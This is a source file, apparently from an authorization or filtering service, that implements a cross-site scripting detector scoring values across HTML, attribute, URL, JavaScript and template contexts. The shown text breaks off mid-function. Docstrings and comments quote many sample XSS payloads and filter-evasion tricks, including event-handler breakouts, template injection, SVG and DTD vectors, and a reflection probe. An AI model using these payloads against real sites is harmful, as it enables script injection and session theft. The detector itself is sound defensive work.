"""Cross-site scripting: a value that becomes markup or code in a page.

The value is read in the contexts a page could reflect it into:

- HTML text: tags as the browser's tokenizer reads them (html_tokens):
  script elements, event handlers on any tag (also malformed and unclosed),
  script/data URLs in URL attributes (entity and whitespace obfuscation undone),
  embedding elements (iframe, object, embed, base, meta refresh ...), CSS that
  runs code (expression(), url(javascript:), behavior, -moz-binding, @import);
  what leaks without script: a fetched URL attribute left open (dangling
  markup), a resource on a Windows file share (NTLM); values cut short inside a
  script URL; several raw-text elements closed back to back (a probe);
- inside a quoted attribute: the value closes the quote and adds attributes
  (`" onmouseover="alert(1)`, `' style='x:expression(...)`), handler-shaped
  names the event list does not know yet included when they call a sink;
- a URL attribute: the whole value is a javascript:/vbscript:/data:text/html URL,
  also hidden by references in any case (`ja&tab;vascript:`);
- inside a JavaScript string or comment: the value closes it and continues as
  code that reaches a sink (`';alert(1)//`, `"-alert(1)-"`, `*/alert(1)/*`), or
  runs a statement and comments out the line (`";a.b=c;//`); read by js_tokens,
  which also rejects prose ("it's alert time" is not code after the quote);
- a client-side template: `{{constructor.constructor('alert(1)')()}}`.

Plain formatting (`<b>`, `<i>`), comparisons ("a < b", "x<3", "2<5>1", "i <3 you")
and ordinary text do not form tags or code and pass.
"""
from __future__ import annotations

from typing import Iterable, NamedTuple

from extauthz.budget import check_spent
from extauthz.decode import Input
from extauthz.detect.base import Detector, register
from extauthz.detect.evasive_urls import evasive_url
from extauthz.detect.recent import RecentResults
from extauthz.detect.urlparts import percent_once
from extauthz.detect.html_tokens import (HtmlAttr, HtmlTag, data_url_type, decode_entities, scan_attributes,
                                         scan_tags, url_scheme)
from extauthz.detect.js_fold import fold_js
from extauthz.detect.js_streams import TokenStreams
from extauthz.detect.js_tokens import COMMENT, IDENT, PUNCT, read_js, tokenize_js
from extauthz.detect.xss_variants import strip_filler, variants
from extauthz.finding import Finding, Severity, excerpt
from extauthz.rules import rule_words, rule_yaml


def _set(key: str) -> frozenset[str]:
    return rule_words("xss.yaml", key)


SCRIPT_TAGS = _set("script_tags")
EMBEDDING_TAGS = _set("embedding_tags")
URL_ATTRIBUTES = _set("url_attributes")
SCRIPT_SCHEMES = _set("script_schemes")
ACTIVE_DATA_TYPES = _set("active_data_types")
EVENTS = _set("events")
TEMPLATE_WORDS = _set("template_escape_words")
LEGACY_CHARSETS = tuple(sorted(_set("legacy_charsets")))
HTML_ELEMENTS = _set("html_elements")
EMBED_PLAYERS = tuple(sorted(_set("embed_players")))
CLOBBERED_NAMES = _set("clobbered_names")
CLOBBERING_TAGS = _set("clobbering_tags")
EXPRESSION_ATTRIBUTES = _set("expression_attributes")
EXPRESSION_ATTRIBUTE_PREFIXES = tuple(sorted(_set("expression_attribute_prefixes")))
EMBEDDING_NEEDS: dict[str, frozenset[str]] = {
    str(k).lower(): frozenset(str(a).lower() for a in v) for k, v in rule_yaml("xss.yaml")["embedding_needs"].items()}
# Calls that are an attack wherever they appear as code (not open()/write()).
STRONG_CALLS = frozenset({"alert()", "prompt()", "confirm()", "eval()", "execscript()", "msgbox()",
                          "function()", "settimeout()", "setinterval()", "string.fromcharcode()",
                          "fromcharcode()", "document.write()", "document.writeln()", "atob()",
                          "window.open()", "import()", "fetch()"})
# End tags that end a raw-text context the page put the value in.
_CONTEXT_CLOSERS = frozenset({"script", "style", "title", "textarea", "noscript", "xmp", "iframe",
                              "noembed", "noframes", "template", "svg", "math", "plaintext"})
_MAX_DEPTH = 2
_MAX_ATTRS_READ = 512  # attributes judged per value (unclosed tags can swallow the rest as attributes)
# Handler values read as JavaScript per value: past this, a handler with a value is HIGH unread
# (it blocks already; reading a hundred more only decides HIGH or CRITICAL).
_MAX_HANDLERS_READ = 32
_MAX_RAW_READS = 32  # tags whose text is also read leniently (odd quoting, junk in handler names)


class XssVerdict(NamedTuple):
    severity: Severity
    rule: str
    start: int
    end: int
    detail: str
    form: str = ""  # the text read (the value or a variant; start/end refer to it)


class _Best:
    """Keeps the most severe verdict seen."""

    __slots__ = ("v", "nested", "cap", "handlers")

    def __init__(self) -> None:
        self.v: XssVerdict | None = None
        self.nested = 0  # documents read inside attributes (srcdoc), bounded
        # event handler values read as JavaScript, bounded by _MAX_HANDLERS_READ (other attributes
        # read for a call count here too)
        self.handlers = 0
        self.cap = Severity.CRITICAL  # the most a reading of the current form may give

    def add(self, severity: Severity, rule: str, start: int, end: int, detail: str) -> None:
        severity = min(severity, self.cap)
        if self.v is None or severity > self.v.severity:
            self.v = XssVerdict(severity, rule, start, end, detail)

    @property
    def done(self) -> bool:
        return self.v is not None and self.v.severity >= Severity.CRITICAL


# ------------------------------------------------------------------ entry


def analyse(value: str, depth: int = 0) -> XssVerdict | None:
    """The most severe XSS reading of `value`, or None."""
    best = _Best()
    for form, lenient, original in variants(value):
        check_spent()  # each form of a long value costs up to a few ms
        if lenient and best.v is not None and best.v.severity >= Severity.HIGH:
            break  # lenient forms add at most HIGH
        before = best.v
        best.cap = Severity.HIGH if lenient else Severity.CRITICAL
        _read(form, best, depth)
        if best.v is not before and best.v is not None:
            if original is not None and _found_anyway(original, best.v, best.cap, depth):
                best.v = before  # found so without the form's change too: not what the form revealed
            else:
                best.v = best.v._replace(form=form)
        if best.done:
            break
    return best.v


def _found_anyway(text: str, found: XssVerdict, cap: Severity, depth: int) -> bool:
    """Does `text` (a stretch of the value, without the form's change) read as `found` does?"""
    own = _Best()
    own.cap = cap
    _read(text, own, depth)
    return own.v is not None and own.v.rule == found.rule and own.v.severity >= found.severity


_JSFUCK = frozenset("[]()!+ \t\n")


# Every JavaScript verdict needs a sink; values without one of these skip the JS readers.
_JS_WORDS = ("alert", "prompt", "confirm", "eval", "fromcharcode", "settimeout", "setinterval",
             "constructor", "document", "window", "location", "cookie", "top", "self", "parent",
             "frames", "execscript", "msgbox", "import", "fetch", "globaleval", "getscript", "&{",
             "\\u", "\\x", "function", "innerhtml", "open", "write", "globalthis", "name", "createelement",
             "atob", "sendbeacon", "navigate", "$")
# Obfuscated code without a sink's name in it: names assembled or looked up by computed keys.
_FOLD_WORDS = (".source", "](", "] (", "tostring(", ".reverse(")
_ATTR_WORDS = ("on", "style", "src", "href", "action", "data")
_URL_WORDS = ("script", "data", "mocha", "mhtml", "&")
_CSS_WORDS = ("expression", "url", "binding", "behavio", "@import", "\\", "-o-link", "/*")


def _read(v: str, best: _Best, depth: int) -> None:
    if len(v) >= 12 and v.count("[") >= 3 and "![]" in v and _JSFUCK.issuperset(v[:4096]):
        best.add(Severity.HIGH, "js-code", 0, len(v), "JSFuck-encoded script ([]()!+ only)")
        return
    if "<" in v:
        _html(v, best, depth)
        if best.done:
            return
    low = v.lower()
    if "=" in v and any(w in low for w in _ATTR_WORDS):
        _attribute_injection(v, best)
    if (":" in v or "&" in v) and any(w in low for w in _URL_WORDS):
        _url_value(v, best)
    if any(w in low for w in _JS_WORDS) or any(w in low for w in _FOLD_WORDS) or (
            "+" in v and ("'" in v or '"' in v)) or (";" in v and "//" in v[-40:] and _FRAME_QUOTES & set(v[:9])):
        _js_contexts(v, best)
    if "{{" in v:
        _template(v, best)
    if any(w in low for w in _CSS_WORDS):
        _css_fragment(v, best)
    if "<!" in v and "attlist" in low:
        _dtd_attributes(v, low, best)
    if "/script" in low and (best.v is None or best.v.severity < Severity.HIGH):
        _bracketless_script(v, low, best)
    if len(v) <= _PROBE_MAX and (best.v is None or best.v.severity < Severity.HIGH):
        _probe(v, best)


def _bracketless_script(v: str, low: str, best: _Best) -> None:
    """`scriptalert(1)/script`, `-1scriptdocument.cookie=true;/script`: a script element whose
    angle brackets a filter (or an encoding layer) took away; put them back in a page that
    re-encodes or a filter that only strips once and it runs. The code between must reach a
    sink; `javascript/script` or a path `/js/script/x.js` have no opener or no code."""
    close = low.find("/script")
    k = low.rfind("script", 0, close)
    while k >= 0 and (k > 0 and (low[k - 1].isalpha() or low[k - 1] == "/")):
        k = low.rfind("script", 0, k)
    if k < 0:
        return
    js = read_js(tokenize_js(v[k + 6:close][:512], 0, 64))
    if js.sink and _strong(js.sink) and js.valid_until > js.sink_index or js.sink.startswith("document.cookie"):
        best.add(Severity.HIGH, "script-tag", k, close + 7, f"script...{js.sink}.../script without its brackets")


# ------------------------------------------------------------------ probes

_PROBE_MAX = 96


def _probe(v: str, best: _Best) -> None:
    """A reflection probe: one short token that breaks out of three or more page contexts at once.

    `'';!--"<XSS>=&{()}` (the classic XSS locator) closes a JS string and statement,
    opens and closes an HTML comment, leaves a quoted attribute and adds a tag: it
    runs nothing itself, but no user types it. It finds where input is reflected
    unencoded — the reconnaissance step of every XSS — and a scanner's next request
    is the payload. So it counts as an attack (HIGH). Ordinary punctuation-rich text
    (a sentence with a quote, a semicolon and <b>) has blanks and letters; the probe is
    one dense token."""
    if any(c.isspace() for c in v):
        return
    lt = v.find("<")
    gt = v.find(">", lt + 1) if lt >= 0 else -1
    # letters outside the tag name ('';!--"<CrossSiteScripting>=&{()} names its tag in full)
    letters = sum(c.isalnum() for c in v) - (sum(c.isalnum() for c in v[lt + 1:gt]) if gt > lt >= 0 else 0)
    if letters * 2 > len(v):
        return
    contexts = 0
    if lt >= 0 and lt + 1 < len(v) and v[lt + 1].isalpha() and v.find(">", lt) > lt:
        contexts += 1  # a tag
    first_quote = min((k for k in (v.find("'"), v.find('"')) if k >= 0), default=-1)
    if 0 <= first_quote < max(lt, v.find(">")):
        contexts += 1  # a quoted attribute left
    if any(m in v for m in ("';", '";', "&{", "${", "{()}")):
        contexts += 1  # a script string or statement ended, a script entity opened
    if any(m in v for m in ("!--", "-->", "*/")):
        contexts += 1  # a comment
    if contexts >= 3:
        best.add(Severity.HIGH, "probe", 0, len(v), f"reflection probe breaking out of {contexts} contexts")


# ------------------------------------------------------------------ DTD


def _dtd_attributes(v: str, low: str, best: _Best) -> None:
    """<!ATTLIST img onerror CDATA "alert(1)">: a DTD that gives every matching element a handler."""
    k = low.find("<!attlist")
    count = 0
    while k >= 0 and count < 8:
        count += 1
        words, end = _declaration_words(v, k + 9)
        i = 1  # words[0] names the element
        while i + 2 < len(words) + 1 and i < len(words):
            name = words[i].lower()
            i += 2  # the name and the type (CDATA, ID, (a|b))
            if i < len(words) and words[i - 1].upper() == "NOTATION":
                i += 1
            if i >= len(words):
                break
            default = words[i]
            i += 1
            if default.upper() == "#FIXED" and i < len(words):
                default = words[i]
                i += 1
            if default[:1] not in ("'", '"'):
                continue
            value = decode_entities(default[1:-1])
            if name.startswith("on"):
                js = read_js(tokenize_js(value, 0, 96))
                if js.sink:
                    best.add(Severity.HIGH, "event-handler", k, end, f"<!ATTLIST ... {name} ...> reaching {js.sink}")
                    return
            elif name in URL_ATTRIBUTES and script_url(value):
                best.add(Severity.HIGH, "script-url", k, end, f"<!ATTLIST ... {name}={script_url(value)}>")
                return
        k = low.find("<!attlist", end)


def _declaration_words(v: str, i: int) -> tuple[list[str], int]:
    """Words of a markup declaration from i to its ">": quoted strings kept with their quotes,
    parenthesised groups as one word (bounded)."""
    words: list[str] = []
    n = min(len(v), i + 4096)
    while i < n and len(words) < 96:
        c = v[i]
        if c == ">":
            return words, i + 1
        if c.isspace():
            i += 1
            continue
        if c in "'\"":
            j = v.find(c, i + 1, n)
            j = n - 1 if j < 0 else j
            words.append(v[i:j + 1])
            i = j + 1
            continue
        j = i
        depth = 0
        while j < n and (depth > 0 or not (v[j].isspace() or v[j] == ">")):
            depth += 1 if v[j] == "(" else -1 if v[j] == ")" and depth > 0 else 0
            j += 1
        words.append(v[i:j])
        i = j
    return words, n


# ------------------------------------------------------------------ HTML


def _html(v: str, best: _Best, depth: int) -> None:
    tags = scan_tags(v)
    _breakout_markup(v, tags, best)
    closers = [t for t in tags if t.end_tag and t.name in _CONTEXT_CLOSERS]
    closed_kinds = {t.name for t in closers}
    if len(closed_kinds) >= 3 and not any(
            c.isalnum() for a, b in zip(closers, closers[1:]) for c in v[a.end:b.start]):
        # `</style/</title/</textarea/</script/--!>`: one value that ends every raw-text element the page
        # might have put it in, back to back; text never needs that (a reflection probe, see _probe)
        best.add(Severity.HIGH, "probe", closers[0].start, closers[-1].end,
                 "ends " + ", ".join(f"</{k}>" for k in sorted(closed_kinds)) + " at once")
    judged: set[int] = set()  # attributes (by start) already judged: reads from nested "<" share them
    raw_checked = -1  # end of the tag text already read leniently (handler_in_tag ...)
    raw_reads = 0
    css_read_until = -1  # end of the <style> body already read
    for tag in tags:
        name = tag.name
        if tag.end_tag:
            if name == "script":
                best.add(Severity.MEDIUM, "script-close", tag.start, tag.end, "</script> ends a script block")
                if tag is tags[0]:
                    _script_context(v, tag, best)
            continue
        if name in SCRIPT_TAGS or name.endswith(":script"):
            sev = _script_element(v, tag)
            best.add(sev, "script-tag", tag.start, tag.end, f"<{name}> element")
            if best.done:
                return
            continue
        for attr in tag.attrs:
            if attr.start in judged or len(judged) >= _MAX_ATTRS_READ:
                continue
            judged.add(attr.start)
            _tag_attribute(v, name, attr, best, depth)
        if not tag.closed and tag.attrs and tag.attrs[-1].end >= len(v):
            _left_open(v, name, tag.attrs[-1], best)
        raw_end = min(tag.end, tag.start + 512)
        if (best.v is None or best.v.severity < Severity.HIGH) and raw_end > raw_checked \
                and raw_reads < _MAX_RAW_READS:
            raw_checked = raw_end
            raw_reads += 1
            raw = v[tag.start:raw_end]
            hit = embedded_script_scheme(raw)
            if hit:  # odd quoting the attribute reader did not untangle: <IMG SRC=""javascript:...""">
                best.add(Severity.HIGH, "script-url", tag.start, tag.end, f"<{name} ...{hit}...>")
            elif "style" in raw.lower() and "expression(" in normalise_css(raw):
                best.add(Severity.HIGH, "css", tag.start, tag.end, f"<{name} style=...expression()>")
            else:
                handler = handler_in_tag(raw)
                if handler:  # <img src onerror /" '"= alt=alert(1)//">, <img o[%00]nerror=alert(1)>
                    best.add(Severity.HIGH, "event-handler", tag.start, tag.end, f"<{name} ...{handler}...>")
        if name in EMBEDDING_TAGS or (name == "xml" and _attr(tag.attrs, "src")):
            needs = EMBEDDING_NEEDS.get(name)
            loads = needs is None or any(a.name in needs and a.has_value for a in tag.attrs)
            if loads and name == "iframe" and _embeds_player(tag.attrs):
                best.add(Severity.LOW, "embedding-tag", tag.start, tag.end, "<iframe> of a known video or map player")
            else:
                best.add(Severity.HIGH if loads else Severity.MEDIUM, "embedding-tag", tag.start, tag.end,
                         f"<{name}> element" + ("" if loads else " (loading nothing)"))
        elif name == "meta":
            equiv = _attr(tag.attrs, "http-equiv").lower()
            charset = (_attr(tag.attrs, "charset") + _attr(tag.attrs, "content")).lower().replace(" ", "")
            if equiv in ("refresh", "set-cookie", "content-security-policy", "link"):
                best.add(Severity.HIGH, "meta-tag", tag.start, tag.end, f"<meta http-equiv={equiv}>")
            elif equiv.startswith("x-ua-compat") and _legacy_document_mode(_attr(tag.attrs, "content")):
                # content="IE=5": the page drops to an old engine where expression(), behaviors and
                # the other legacy vectors run again ("IE=edge", the usual value, asks for the newest)
                best.add(Severity.HIGH, "meta-tag", tag.start, tag.end, "<meta X-UA-Compatible> forcing a legacy engine")
            elif any(c in charset for c in LEGACY_CHARSETS):
                # UTF-7, ISO-2022, HZ, x-mac-farsi, EBCDIC ...: bytes the filter saw as text become markup
                best.add(Severity.HIGH, "meta-tag", tag.start, tag.end, f"<meta> switching the page to {charset[:24]}")
        elif name in ("set", "animate") and _attr(tag.attrs, "attributename").strip().lower() in ("href", "xlink:href"):
            # <svg><set href=#script attributeName=href to=data:,alert(1)>: a script's source replaced
            for a in ("to", "values", "from", "by"):
                target = _attr(tag.attrs, a).strip().lower()
                if target.startswith("data:") or script_url(target):
                    best.add(Severity.HIGH, "svg-animation", tag.start, tag.end, f"<{name} {a}={target[:24]}>")
                    break
        elif name == "eval" or name.endswith(":eval"):
            # WD-xsl <eval> (IE stylesheets): the element's text is script
            close = v.find("<", tag.end)
            js = read_js(tokenize_js(v[tag.end: close if close >= 0 else len(v)][:1024], 0, 128))
            if js.sink:
                best.add(Severity.HIGH, "script-tag", tag.start, tag.end, f"<{name}> element reaching {js.sink}")
        elif name == "link":
            rel = _attr(tag.attrs, "rel").lower()
            if any(r in rel for r in ("stylesheet", "import", "preload", "prefetch", "manifest")) and \
                    _attr(tag.attrs, "href"):
                best.add(Severity.HIGH, "link-tag", tag.start, tag.end, f"<link rel={rel}>")
        elif name == "style":
            # The body runs to "</style" (or the end): read once; a <style> inside it is its text.
            hit = ""
            if tag.end >= css_read_until:
                close = v.find("</", tag.end)
                while close >= 0 and v[close + 2:close + 7].lower() != "style":
                    close = v.find("</", close + 2)
                css_read_until = close if close >= 0 else len(v)
                hit = css_danger(v[tag.end:css_read_until])
            if hit:
                best.add(Severity.HIGH, "css", tag.start, tag.end, f"<style> with {hit}")
            else:
                best.add(Severity.MEDIUM, "style-tag", tag.start, tag.end, "<style> element")
        elif name == "param" and _attr(tag.attrs, "name").lower() in ("movie", "src", "url", "code", "filename") \
                and _attr(tag.attrs, "value"):
            best.add(Severity.HIGH, "embedding-tag", tag.start, tag.end, "<param> loading a plugin resource")
        if name in CLOBBERING_TAGS and _attr(tag.attrs, "name").strip().lower() in CLOBBERED_NAMES:
            # <form name=location>, <img name=getElementById>: the element replaces document.<name>
            best.add(Severity.HIGH, "dom-clobbering", tag.start, tag.end,
                     f"<{name} name={_attr(tag.attrs, 'name').strip()[:24]}> replaces a document property")
        if name == "input" and _repetitive(_attr(tag.attrs, "value")) and \
                _catastrophic_pattern(_attr(tag.attrs, "pattern")):
            # <input pattern=^((a+.)a)+$ value=aaaa…!>: the browser checks the value against a regex
            # that backtracks exponentially, freezing the page (client-side ReDoS)
            best.add(Severity.HIGH, "regex-dos", tag.start, tag.end,
                     "<input pattern=...> with nested quantifiers and a value that makes it backtrack")
        elif name == "form" and _attr(tag.attrs, "action"):
            best.add(Severity.MEDIUM, "form-tag", tag.start, tag.end, "<form action=...>")
        elif name == "input" and _attr(tag.attrs, "type").strip().lower() == "password" and \
                any(t.name == "form" and not t.end_tag and t.start < tag.start for t in tags) and \
                any(t.name == "form" and t.end_tag and t.start > tag.start for t in tags):
            # an injected login form (<form>...<input type=password>...</form>): the page's origin asks
            # for the password, the form sends it anywhere
            best.add(Severity.HIGH, "form-tag", tag.start, tag.end, "<form> with a password field")
        elif name == "a" and _attr(tag.attrs, "data-method").strip().lower() in _UJS_METHODS:
            # Rails UJS turns a click on this link into a forged POST/DELETE carrying the page's CSRF token
            best.add(Severity.HIGH, "framework-expression", tag.start, tag.end,
                     f"<a data-method={_attr(tag.attrs, 'data-method').strip().lower()}>")
        if best.done:
            return
    if closers and best.v is not None and best.v.severity >= Severity.MEDIUM and any(
            not t.end_tag and t.name.replace("-", "").replace(":", "").isalnum() for t in tags):
        # "</title><img ...": the value ends the page's element and starts its own markup.
        best.add(Severity.HIGH, best.v.rule, best.v.start, best.v.end, best.v.detail + " after </" + closers[0].name + ">")


def _legacy_document_mode(content: str) -> bool:
    """IE=5, IE=7, IE=EmulateIE8 ...: a document mode of an old engine (IE=edge and IE=11 are not)."""
    low = content.lower().replace(" ", "")
    k = low.find("ie=")
    while k >= 0:
        mode = low[k + 3:k + 14]
        digits = mode.removeprefix("emulateie")
        number = ""
        for c in digits:
            if not c.isdigit():
                break
            number += c
        if number and int(number) <= 9:
            return True
        k = low.find("ie=", k + 3)
    return False


_QUANTIFIERS = frozenset("+*{")


def _repetitive(value: str) -> bool:
    """aaaaaaaaaaaaaaaa!: the bait a backtracking regex chokes on (one character, many times)."""
    v = value[:4096]
    return len(v) >= 12 and max((v.count(c) for c in set(v[:64])), default=0) * 2 >= len(v)


def _catastrophic_pattern(pattern: str) -> bool:
    """A regular expression with a quantified group that holds a quantifier itself ((a+)+,
    ((a+.)a)+, (x*y?)*): the shape that backtracks exponentially. One pass, a bounded stack."""
    stack: list[bool] = []  # per open group: does it contain a quantifier
    i, n = 0, min(len(pattern), 512)
    while i < n:
        c = pattern[i]
        if c == "\\":
            i += 2
            continue
        if c == "[":
            j = pattern.find("]", i + 2)
            i = n if j < 0 else j + 1
            continue
        if c == "(" and len(stack) < 32:
            stack.append(False)
        elif c == ")" and stack:
            inner = stack.pop()
            if inner and i + 1 < n and pattern[i + 1] in _QUANTIFIERS:
                return True
            if stack:
                stack[-1] = stack[-1] or inner
        elif c in _QUANTIFIERS and stack:
            stack[-1] = True
        i += 1
    return False


def _embeds_player(attrs: tuple[HtmlAttr, ...]) -> bool:
    """<iframe src="https://www.youtube.com/embed/ID">: the embed code a video or map site hands
    out (EMBED_PLAYERS), an https page in its own origin; without srcdoc or name (a named frame
    is a navigation target)."""
    if any(a.name in ("srcdoc", "name") for a in attrs):
        return False
    src = _attr(attrs, "src").strip().lower()
    for prefix in ("https://", "//"):
        if src.startswith(prefix):
            rest = src[len(prefix):]
            # no way out of the player's path: dot segments, backslashes, credentials
            return rest.startswith(EMBED_PLAYERS) and not any(c in rest for c in ("..", "\\", "@", "%2e", "%5c"))
    return False


def _script_context(v: str, close: HtmlTag, best: _Best) -> None:
    """The value ends a script block it did not open: what comes before `</script>` was
    written into the page's script.

    `src=//evil.example/x.js></script>` completes the page's `<script` tag with a source;
    `$,_=1}}).$=alert</script>` is code (it reads as JavaScript to the end and reaches a
    sink) run in the page's script block. Prose before a `</script>` does neither."""
    lead = v[:close.start]
    if "<" in lead or not lead.strip():
        return
    attrs, end, closed = scan_attributes(lead, 0)
    if closed and not lead[end:].strip() and any(a.name == "src" and a.value.strip() for a in attrs):
        best.add(Severity.HIGH, "script-src", 0, close.end, "value gives the page's <script> a source and closes it")
        return
    toks = tokenize_js(lead.strip(), 0, 128)
    js = read_js(toks)
    code = [t for t in toks if t.kind != COMMENT]
    if js.sink and js.valid_until >= len(toks) and len(code) >= 3 and any(t.kind == PUNCT for t in code):
        best.add(Severity.HIGH, "script-context-code", 0, close.end,
                 f"code reaching {js.sink} written into the page's script block")


_UJS_METHODS = frozenset({"post", "put", "patch", "delete"})
_BREAKOUT_PREFIX_MAX = 32
_BREAKOUT_LEAD_MAX = 64
_BREAKOUT_RUN = frozenset("\"'`\\/);> \t")


def _breakout_markup(v: str, tags: list[HtmlTag], best: _Best) -> None:
    """`"><h1>defaced</h1>`, `'><a href=//evil.example>log in</a>`, `</title><h1>x</h1>`: the
    value closes the attribute it is reflected into (a quote) and the tag (`>`), or ends the
    element whose text it is (`</title>`, `</textarea>`), then writes an HTML element of its
    own. No script has to run for that to be an attack (defacement, phishing links and
    forms, the scanner's proof that markup gets through); a sentence with a quote and a tag
    has words and blanks before them, and `a > b` has no element.
    The element must carry attributes or be followed by content: a bare `'"><b>` ends the value."""
    first = next((t for t in tags if not t.end_tag), None)
    if first is None or first.start > _BREAKOUT_LEAD_MAX:
        return
    if first.name not in HTML_ELEMENTS and not (first.closed and first.name.isalpha() and any(
            a.has_value and a.value.strip() and a.name.isalpha() for a in first.attrs)):
        return  # an unknown element counts with a real attribute (`"><x style="...">`: browsers style it)
    if not first.attrs and (not first.closed or not v[first.end:].strip()):
        return  # `'"><b>` alone is a two-context probe (see _probe); markup needs attributes or content
    lead = v[:first.start]
    closers = [t for t in tags if t.end_tag and t.start < first.start and t.name in _CONTEXT_CLOSERS and t.closed]
    for t in reversed(closers):  # `"></textarea><b>x</b>`: the element's end tags are part of the way out
        lead = lead[:t.start] + lead[t.end:]
    k = 0
    while k < len(lead) and lead[k] not in "\"'`>":
        k += 1
    prefix, run = lead[:k], lead[k:]
    if len(prefix) > _BREAKOUT_PREFIX_MAX or any(c.isspace() or c == "<" for c in prefix):
        return
    if closers and not lead.strip():
        best.add(Severity.HIGH, "breakout-markup", 0, first.end,
                 f"value ends <{closers[0].name}>, then writes <{first.name}>")
    elif ">" in run and ("'" in run or '"' in run) and _BREAKOUT_RUN.issuperset(run):
        best.add(Severity.HIGH, "breakout-markup", 0, first.end,
                 f"value closes its attribute and tag, then writes <{first.name}>")


def _script_element(v: str, tag) -> Severity:
    """A <script> that loads or contains code is critical; "<script>" named in a sentence is not.

    Code means a src, or a body that reads as JavaScript (a call or a sink), or nothing at
    all after it (the page's own text becomes the script).
    """
    if any(a.name in ("src", "xlink:href", "href") and a.has_value for a in tag.attrs):
        return Severity.CRITICAL
    close = v.find("<", tag.end)
    body = v[tag.end: close if close >= 0 else len(v)][:1024]
    if "&" in body:
        body = decode_entities(body)  # inside <svg> a script body is XML: alert&#40;1&#41; runs
    if not body.strip() or v[:tag.start].rstrip().endswith(">"):
        return Severity.HIGH  # nothing but the page after it, or right after a tag/attribute it closed
    toks = tokenize_js(body, 0, 128)
    if all(t.kind == "c" for t in toks):
        return Severity.HIGH
    js = read_js(toks)
    if js.sink and js.valid_until > js.sink_index:
        return Severity.CRITICAL
    if js.valid_until == len(toks) and len(toks) <= 12 and any(t.kind == PUNCT for t in toks):
        return Severity.HIGH  # short code ("<script>x=1", "<script>a(b)"); one word is a sentence
    return Severity.MEDIUM


_JUNK_BEFORE_EQ = frozenset(" \t\r\n'\"`/\x0b\x0c\x01\x02\x03\x04\x05\x06\x07\x08")


def handler_in_tag(raw: str) -> str:
    """"onerror=alert()" when a tag's text assigns an event handler code that runs, however the
    quoting around it falls ('' when none).

    The attribute reader follows the HTML tokenizer; this reads the tag's text as
    filters and older parsers did: placeholders and NULs in names dropped
    (`o[%00]nerror`, `onerror[c]=`), junk between name and "=" skipped (`onerror /" '"=`),
    and the code after it read as JavaScript. Only handlers that reach a call which
    runs code count, so a tag that merely mentions "onload=" does not."""
    text = strip_filler(raw[:1024])
    low = text.lower()
    n = len(low)
    i = low.find("on")
    seen = 0
    while 0 <= i and seen < 16:
        seen += 1
        j = i + 2
        while j < n and low[j].isalpha() and j - i < 48:
            j += 1
        name = low[i:j]
        if len(name) > 4 and (name in EVENTS or not low[i - 1:i].isalpha()):
            k = j
            while k < n and low[k] in _JUNK_BEFORE_EQ and k - j < 8:
                k += 1
            if k < n and low[k] == "=":
                k += 1
                while k < n and low[k] in _JUNK_BEFORE_EQ and low[k] != "/":
                    k += 1
                code = decode_entities(text[k:k + 512])
                js = read_js(tokenize_js(code, 0, 96))
                if js.sink and _strong(js.sink) and js.valid_until > js.sink_index:
                    return f"{name}={js.sink}"
        i = low.find("on", j)
    return ""


def _attr(attrs: tuple[HtmlAttr, ...], name: str) -> str:
    for a in attrs:
        if a.name == name:
            return decode_entities(a.value)
    return ""


def _tag_attribute(v: str, tag: str, attr: HtmlAttr, best: _Best, depth: int) -> None:
    an = attr.name
    value = attr.value
    if value and (an in EXPRESSION_ATTRIBUTES or an.startswith(EXPRESSION_ATTRIBUTE_PREFIXES)):
        # Client frameworks evaluate these as code: ng-focus, v-on:click, x-init, data-bind ...
        code = decode_entities(value)
        toks = tokenize_js(code, 0, 128)
        js = read_js(toks)
        if js.sink and _strong(js.sink) and js.valid_until > js.sink_index or fold_js(toks):
            best.add(Severity.HIGH, "framework-expression", attr.start, attr.end,
                     f"<{tag} {an}=...> expression reaching {js.sink or 'a code runner'}")
    if an.startswith("on") and len(an) > 4 and an[2:].isalpha():
        if attr.has_value and value.strip():
            best.handlers += 1
            if best.handlers > _MAX_HANDLERS_READ:
                best.add(Severity.HIGH, "event-handler", attr.start, attr.end, f"<{tag} {an}=...>")
                return
            js = read_js(tokenize_js(decode_entities(value)))
            sev = Severity.CRITICAL if js.sink else Severity.HIGH
            best.add(sev, "event-handler", attr.start, attr.end,
                     f"<{tag} {an}=...>" + (f" reaching {js.sink}" if js.sink else ""))
        elif attr.has_value and not v[attr.end:].strip():
            # "<x onend=" at the very end: the page's own following text becomes the handler.
            best.add(Severity.HIGH, "event-handler", attr.start, attr.end, f"<{tag} {an}= left open>")
        return
    if an == "style":
        hit = css_danger(decode_entities(value))
        if hit:
            best.add(Severity.HIGH, "css", attr.start, attr.end, f"style attribute with {hit}")
        return
    if an == "srcdoc":
        inner = None
        if depth == 0 and best.nested < 2:
            best.nested += 1
            inner = analyse(decode_entities(value[:4096]), _MAX_DEPTH)
        if inner is not None and inner.severity >= Severity.MEDIUM:
            best.add(max(inner.severity, Severity.HIGH), "srcdoc", attr.start, attr.end, "srcdoc document: " + inner.detail)
        elif "<" in value or "&lt" in value.lower():
            best.add(Severity.HIGH, "srcdoc", attr.start, attr.end, "srcdoc document with markup")
        return
    if an in ("datasrc", "datafld", "dataformatas"):
        html = an == "dataformatas" and decode_entities(value).strip().lower() == "html"
        best.add(Severity.HIGH if html else Severity.MEDIUM, "data-binding", attr.start, attr.end,
                 f"IE data binding ({an})")
        return
    if an == "attributename" and decode_entities(value).strip().lower().startswith("on"):
        best.add(Severity.HIGH, "event-handler", attr.start, attr.end, f"<{tag} attributeName={value[:20]}> sets a handler")
        return
    if an == "formaction" and value.strip():
        best.add(Severity.HIGH, "script-url", attr.start, attr.end, f"<{tag} formaction=...> overrides a form target")
        return
    if not value:
        return
    slash_on = value.find("/on")
    if slash_on > 0 and not value.startswith(("http", "/")) and depth < _MAX_DEPTH:
        # <img/src=x/onerror=alert(1)>: lenient parsers and sanitizers split on "/" too.
        for extra in scan_attributes(value, slash_on + 1)[0]:
            if extra.name in EVENTS:
                _tag_attribute(v, tag, extra._replace(start=attr.start, end=attr.end), best, depth + 1)
    if value.startswith("`") and depth < _MAX_DEPTH:
        # Old IE also quotes with back ticks: <img src=`x`onerror=alert(1)> has a second attribute.
        close = value.find("`", 1)
        if close > 0:
            for extra in scan_attributes(value, close + 1)[0]:
                _tag_attribute(v, tag, extra._replace(start=attr.start, end=attr.end), best, depth + 1)
    if an in URL_ATTRIBUTES or _looks_like_script_url(value):
        hit = script_url(value if an != "content" else _meta_url(value))
        if not hit and an in URL_ATTRIBUTES:
            hit = embedded_script_scheme(value) or _scheme_without_colon(value)
        if not hit and an in URL_ATTRIBUTES and "&#" in value[:64]:
